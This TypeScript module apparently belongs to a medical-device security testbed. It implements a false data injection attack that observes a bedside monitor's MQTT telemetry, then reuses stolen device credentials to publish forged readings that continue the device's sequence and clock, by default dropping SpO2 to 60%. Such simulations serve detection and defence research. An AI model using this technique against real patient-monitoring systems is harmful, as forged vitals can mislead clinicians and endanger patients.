import { z } from 'zod'
import { addressParam, defineAttack, rateParam, targetDevice, topicOf } from './attack.ts'
import { observeDevice } from './observe.ts'

/**
 * False data injection: watch a device, then, with its stolen credentials, publish readings that
 * continue its sequence and clock but carry a value no patient produces — by default an SpO2 that
 * drops from the patient's to 60 % between two readings a second apart.
 */
export const falseDataAttack = defineAttack({
  type: 'false-data',
  summary: 'publish forged readings in a device’s name that continue its sequence',
  params: z
    .object({
      address: addressParam('203.0.113.130'),
      target: z.string().optional(),
      field: z.string().min(1).default('spo2'),
      value: z.number().default(60),
      /** Forged readings (one session each) a second. */
      rate: rateParam(1),
    })
    .strict(),
  target: (params, registry) => targetDevice(registry, params.target, ['bedside-monitor']).id,
  async run(attacker, params, durationMs) {
    const device = targetDevice(attacker.ctx.registry, attacker.entry.target!)
    const telemetry = topicOf(device, 'telemetry')
    const watched = await observeDevice(attacker, params.address, device, { count: 3, maxMs: 30_000 })
    const template = watched.findLast((m) => m.topic === telemetry)
    if (!template) throw new Error(`false-data: ${device.id} sent no telemetry to imitate`)
    let seq = Math.max(...watched.map((m) => m.envelope.seq))
    attacker.strike()
    await attacker.repeat(params.rate, durationMs, async () => {
      const client = await attacker.connectStolen(params.address, device.id).catch(() => null)
      if (!client) return
      const data = { ...(template.envelope.data as Record<string, unknown>), [params.field]: params.value }
      client.publish(telemetry, JSON.stringify({ deviceId: device.id, kind: device.kind, seq: ++seq, ts: Math.round(attacker.now()), data }), { qos: 0 })
      await client.endAsync().catch(() => undefined)
    })
  },
})
